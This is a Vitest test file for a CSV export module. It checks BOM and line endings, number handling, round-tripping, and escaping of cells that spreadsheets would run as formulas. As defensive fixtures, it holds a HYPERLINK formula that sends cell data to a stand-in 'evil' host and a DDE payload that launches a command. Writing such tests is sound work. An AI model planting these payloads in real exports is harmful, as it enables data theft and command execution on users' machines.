import { describe, expect, it } from 'vitest'
import fc from 'fast-check'
import { csvCell, csvText, toCsv } from '@shared/export/csv'

/** A minimal RFC 4180 reader for the round-trip property (independent of the writer). */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(cell)
      cell = ''
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += c
  }
  return rows
}

describe('CSV export', () => {
  it('starts with a BOM and ends rows with CRLF', () => {
    const csv = toCsv([
      ['店名', '金额'],
      ['阳光书店', 12.5],
    ])
    expect(csv.startsWith('\ufeff')).toBe(true)
    expect(csv).toBe('\ufeff店名,金额\r\n阳光书店,12.5\r\n')
  })

  it('escapes text cells that Excel would run as formulas', () => {
    expect(csvText('=HYPERLINK("http://evil/?d="&A1,"Click")')).toBe(
      `"'=HYPERLINK(""http://evil/?d=""&A1,""Click"")"`,
    )
    expect(csvText("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0")
    expect(csvText('@SUM(1,1)')).toBe(`"'@SUM(1,1)"`)
    expect(csvText('+1+1')).toBe("'+1+1")
    expect(csvText('-2+3')).toBe("'-2+3")
    expect(csvText('\tfoo')).toBe("'\tfoo")
    expect(csvText('\rfoo')).toBe(`"'\rfoo"`)
  })

  it('keeps real negative numbers as numbers', () => {
    expect(csvCell(-3.43)).toBe('-3.43')
    expect(csvCell(-1)).toBe('-1')
    expect(csvCell(null)).toBe('')
    expect(csvCell(Number.NaN)).toBe('')
  })

  it('round-trips any text through an RFC 4180 reader (after the formula guard)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string(), { minLength: 1, maxLength: 5 }), { maxLength: 5 }),
        (rows) => {
          const back = readCsv(toCsv(rows).slice(1))
          const guarded = rows.map((r) => r.map((c) => (/^[=+\-@\t\r]/.test(c) ? `'${c}` : c)))
          expect(back).toEqual(guarded)
        },
      ),
    )
  })
})
